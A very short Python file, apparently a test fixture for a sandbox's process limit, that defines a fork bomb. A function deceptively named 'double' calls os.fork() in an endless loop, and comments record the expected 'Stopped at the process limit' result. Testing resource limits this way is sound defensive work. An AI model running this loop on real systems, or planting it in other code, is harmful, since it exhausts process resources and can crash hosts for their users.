"""A fork bomb."""
#: double = "ERROR"
#: says = "Stopped at the process limit"

import os


def double(x):
    while True:
        os.fork()
